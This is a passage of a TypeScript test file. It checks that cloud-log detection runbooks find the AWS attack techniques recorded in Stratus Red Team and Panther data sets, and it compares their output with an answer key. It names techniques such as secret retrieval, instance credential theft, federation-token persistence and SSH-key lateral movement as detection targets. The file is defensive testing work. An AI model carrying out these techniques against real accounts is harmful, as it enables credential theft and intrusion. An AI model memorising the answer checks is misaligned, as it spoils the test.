  "privilege-escalation/roles_passed_to_compute",
  "privilege-escalation/roles_passed_to_compute_insights",
];

/** outside-role-use's steps. */
const OUTSIDE_ROLE_STEPS = [
  "outside-role-use/outside_accounts",
  "outside-role-use/outside_accounts_insights",
  "outside-role-use/web_identities_outside",
  "outside-role-use/web_identities_outside_insights",
  "outside-role-use/saml_outside",
  "outside-role-use/saml_outside_insights",
  "outside-role-use/guarded_roles_assumed",
  "outside-role-use/guarded_roles_assumed_insights",
];

const PANTHER_STEPS = [
  ...TECHNIQUE_STEPS,
  "unauthorized-access-attempts/failed_console_logins",
  "unauthorized-access-attempts/denied_by_principal",
  "kms-key-deletion/key_deletions",
  "kms-key-deletion/key_deletions_insights",
  "kms-key-deletion/key_policy_changes",
  "kms-key-deletion/key_policy_changes_insights",
  "resource-modifications/account_public_access_opened",
  "resource-modifications/account_public_access_opened_insights",
  "cloudtrail-tampering/detection_weakened",
  "cloudtrail-tampering/detection_weakened_insights",
  "root-account-usage/root_activity",
  "root-account-usage/root_activity_insights",
  "cloudtrail-tampering/other_logging_removed",
  ...S3_RANSOMWARE_STEPS,
  ...RDS_STEPS,
  ...RECONNAISSANCE_STEPS,
  ...NETWORK_STEPS,
  ...SIGN_IN_STEPS,
  ...BUILD_STEPS,
  ...PRIVILEGE_STEPS,
  ...GUARDRAIL_STEPS,
  ...OUTSIDE_ROLE_STEPS,
];

/** The data-exposure runbook's steps, all checked against test/truth/runbook-answers.ts. */
const DATA_EXPOSURE_STEPS = [
  "data-exposure/shared_outside",
  "data-exposure/shared_outside_insights",
  "data-exposure/public_functions",
  "data-exposure/public_functions_insights",
  "data-exposure/trust_anchors",
  "data-exposure/trust_anchors_insights",
  "data-exposure/organization_left",
  "data-exposure/organization_left_insights",
];

/** The steps whose rows on each data set are checked against test/truth/runbook-answers.ts. */
const STRATUS_STEPS = [
  ...TECHNIQUE_STEPS,
  "cloudtrail-tampering/trail_changes",
  "cloudtrail-tampering/trail_changes_insights",
  "cloudtrail-tampering/trail_changes_by_hand_insights",
  "audit-iam/changes_outside_automation",
  "resource-modifications/modifications",
  "resource-modifications/trust_policy_changes",
  ...DATA_EXPOSURE_STEPS,
  ...RECONNAISSANCE_STEPS,
  ...NETWORK_STEPS,
  ...SIGN_IN_STEPS,
  ...BUILD_STEPS,
  ...PRIVILEGE_STEPS,
  ...GUARDRAIL_STEPS,
  ...OUTSIDE_ROLE_STEPS,
];

/** A step's rows and its failed checks' offending rows as JSON text; the step must fail. */
type Found = (runbook: string, step: string) => string;

/** Panther's test records of the rules named (`index.tsv` names each line's rule). */
function pantherRecords(rules: string[]): Event[] {
  const events = readJsonl(PANTHER);
  const index = path.join(SHARED, "datasets", PANTHER, "index.tsv");
  return readFileSync(index, "utf8")
    .split("\n")
    .slice(1)
    .filter(Boolean)
    .map((l) => l.split("\t"))
    .filter(([, , rule]) => rules.includes(rule!))
    .map(([line]) => events[Number(line) - 1]!);
}

/** The Stratus records of a technique (`index.tsv` labels each line of events.jsonl). */
function stratusRecords(technique: string): Event[] {
  const events = readJsonl("stratus-red-team-detonation-logs");
  const index = path.join(SHARED, "datasets/stratus-red-team-detonation-logs/index.tsv");
  const labels = readFileSync(index, "utf8").split("\n").slice(1).filter(Boolean);
  return labels
    .map((l) => l.split("\t"))
    .filter(([, , , t]) => t === `aws.${technique}`)
    .map(([line]) => events[Number(line) - 1]!);
}

/** The Stratus records of a technique's call. */
function stratusCalls(technique: string, eventName: string): Event[] {
  const records = stratusRecords(technique).filter((e) => field(e, "eventName") === eventName);
  expect(records.length, `${technique} ${eventName}`).toBeGreaterThan(0);
  return records;
}

/**
 * bedrock-model-use finds each call impact.bedrock-invoke-model made (the reconnaissance, the
 * model access enabled, the invocation), by the labelled records' identity, with its model and
 * count; access-key-lifecycle finds persistence.sts-federation-token's token with the key that
 * minted it and the session key it returned, in both dialects.
 */
function expectModelUse(found: Found) {
  const records = stratusRecords("impact.bedrock-invoke-model");
  expect(records).toHaveLength(15);
  const groups = new Map<string, Event[]>();
  for (const e of records) {
    const key = cells(
      String(field(e, "userIdentity.arn")),
      String(field(e, "eventName")),
      (field(e, "requestParameters.modelId") as string | undefined) ?? null,
    );
    groups.set(key, [...(groups.get(key) ?? []), e]);
  }
  expect(groups.size).toBe(6);
  const sql = found("bedrock-model-use", "model_use");
  const insights = found("bedrock-model-use", "model_use_insights");
  for (const [key, group] of groups) {
    expect(sql, key).toContain(`${key},${cells(group.length, 0)}`);
    const [arn, call] = JSON.parse(`[${key}]`) as string[];
    expect(insights, key).toContain(cells(arn!, call!, group.length));
  }
  expect(sql).toContain(cells("InvokeModel", "anthropic.claude-3-sonnet-20240229-v1:0", 1));
  const [token] = stratusCalls("persistence.sts-federation-token", "GetFederationToken");
  const arn = String(field(token, "userIdentity.arn"));
  const name = String(field(token, "requestParameters.name"));
  const session = String(field(token, "responseElements.credentials.accessKeyId"));
  expect(found("access-key-lifecycle", "federation_tokens")).toContain(
    cells(arn, String(field(token, "userIdentity.accessKeyId")), name, session),
  );
  expect(found("access-key-lifecycle", "federation_tokens_insights")).toContain(
    cells(arn, name, session),
  );
}

/** `values` as they appear in a row's JSON: consecutive cells. */
const cells = (...values: JsonValue[]) => JSON.stringify(values).slice(1, -1);

/**
 * credential-access finds each credential-access technique's reads (and ec2-download-user-data's),
 * by the identity the labelled records name, with their count and refusals; bulk_reads counts
 * the distinct secrets, parameters or instances each read named, one hour of one identity.
 */
function expectSecretReads(found: Found) {
  const reads: [string, string][] = [
    ["credential-access.secretsmanager-retrieve-secrets", "GetSecretValue"],
    ["credential-access.secretsmanager-batch-retrieve-secrets", "BatchGetSecretValue"],
    ["credential-access.ssm-retrieve-securestring-parameters", "GetParameters"],
    ["credential-access.ec2-get-password-data", "GetPasswordData"],
    ["discovery.ec2-download-user-data", "DescribeInstanceAttribute"],
  ];
  const outside = found("credential-access", "reads_outside_workloads");
  const outsideInsights = found("credential-access", "reads_outside_workloads_insights");
  const bulk = found("credential-access", "bulk_reads");
  for (const [technique, call] of reads) {
    const records = stratusCalls(technique, call);
    const arns = new Set(records.map((e) => String(field(e, "userIdentity.arn"))));
    expect(arns.size, technique).toBe(1);
    const [arn] = arns;
    const refused = records.filter((e) => field(e, "errorCode") != null).length;
    expect(outside, technique).toContain(cells(arn!, call, records.length, refused));
    expect(outsideInsights, technique).toContain(cells(arn!, call, records.length));
    // Each name of a GetParameters request counts; a batch read by filter counts once.
    const targets = new Set(
      records.flatMap((e) => {
        const names = field(e, "requestParameters.names");
        if (Array.isArray(names)) return names as string[];
        const one = ["secretId", "instanceId"].map((k) => field(e, `requestParameters.${k}`));
        return [String(one.find((x) => x != null) ?? field(e, "eventID"))];
      }),
    );
    const hours = new Set(records.map((e) => String(field(e, "eventTime")).slice(0, 13)));
    expect(hours.size, technique).toBe(1);
    const row = cells(arn!, [...hours][0]!, records.length, refused, targets.size);
    if (targets.size > 10) expect(bulk, technique).toContain(row);
    else expect(bulk, technique).not.toContain(arn!);
  }
  // the 20 secrets, the 42 parameters, the 30 passwords and the 15 user data: in bulk
  expect(bulk).toContain(',"2024-07-31T12",20,0,20]');
  expect(bulk).toContain(',"2024-08-01T15",5,0,42]');
}

/**
 * remote-execution finds every command, session, key and user data change the execution and
 * lateral-movement techniques made (ec2-steal-instance-credentials' command included), each row
 * naming the labelled record's caller and instance, and ec2-launch-unusual-instances' refused
 * GPU launch.
 */
function expectInstanceAccess(found: Found) {
  const calls: [string, string][] = [
    ["execution.ssm-send-command", "SendCommand"],
    ["credential-access.ec2-steal-instance-credentials", "SendCommand"],
    ["execution.ssm-start-session", "StartSession"],
    ["lateral-movement.ec2-instance-connect", "SendSSHPublicKey"],
    ["lateral-movement.ec2-serial-console-send-ssh-public-key", "SendSerialConsoleSSHPublicKey"],
    ["lateral-movement.ec2-serial-console-send-ssh-public-key", "EnableSerialConsoleAccess"],
    ["execution.ec2-user-data", "ModifyInstanceAttribute"],
  ];
  const rows = found("remote-execution", "instance_access");
  let labelled = 0;
  for (const [technique, call] of calls) {
    for (const e of stratusCalls(technique, call)) {
      const instance = (["instanceId", "target", "instanceIds.0"] as const)
        .map((k) => field(e, `requestParameters.${k}`))
        .find((x) => x != null);
      const row = cells(String(field(e, "eventTime")), String(field(e, "userIdentity.arn")), false);
      expect(rows, technique).toContain(`${row},${cells(call, (instance as string) ?? null)}`);
      labelled++;
    }
  }
  expect(labelled).toBe(13);
  const insights = found("remote-execution", "instance_access_insights");
  expect((JSON.parse(insights) as JsonValue[][][])[0]).toHaveLength(labelled);
  const [launch] = stratusCalls("execution.ec2-launch-unusual-instances", "RunInstances");
  const launched = cells(
    String(field(launch, "userIdentity.arn")),
    String(field(launch, "requestParameters.instanceType")),
  );
  expect(found("remote-execution", "unusual_instances")).toContain(launched);
  expect(found("remote-execution", "unusual_instances_insights")).toContain(launched);
}

/** A data set's records, one JSON object a line, as published (../shared/datasets/<name>/events.jsonl). */
/**
 * The reports of `runbook` over `events` (one file in a folder of its own), window [from, to);
 * `extra`: more arguments (`--param name=value`).
 */
/** The runbook over crafted records of 2024-06-01 (the day the crafted calls below are on). */
const onJune1 = (runbook: string, events: Event[], extra: string[] = []) =>
  runOver(runbook, events, "2024-06-01", "2024-06-02", extra);

async function runOver(
  runbook: string,
  events: Event[],
  from: string,
  to: string,
  extra: string[] = [],
): Promise<RunReport[]> {
  const dir = await mkdtemp(path.join(tmpdir(), "run-md-real-data-"));
  try {
    await writeFile(path.join(dir, "events.json"), JSON.stringify({ Records: events }));
    const args = ["--log-dir", dir, "--from", from, "--to", to, "--no-report", "--json", ...extra];
    return JSON.parse((await runMd([runbook, ...args])).stdout) as RunReport[];
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

function readJsonl(dataset: string): Event[] {
  return readFileSync(path.join(SHARED, "datasets", dataset, "events.jsonl"), "utf8")
    .split("\n")
    .filter((l) => l.trim() !== "")
    .map((l) => JSON.parse(l) as Event);
}

/** Each named step's rows are the answer computed from the raw records, as a set. */
function expectTruth(reports: RunReport[], events: Event[], steps: string[]) {
  const set = (rows: JsonValue[][]) => rows.map((r) => JSON.stringify(r)).sort();
  for (const key of steps) {
    const [runbook, step] = key.split("/") as [string, string];
    const report = reports.find((r) => r.runbook.id === runbook)!;
    const s = report.steps.find((x) => x.id === step)!;
    expect(s.error, key).toBeUndefined();
    const truth = RUNBOOK_ANSWERS[key]!(events, report.params as Record<string, JsonValue>);
    expect(set(s.rows), key).toEqual(set(truth));
  }
}
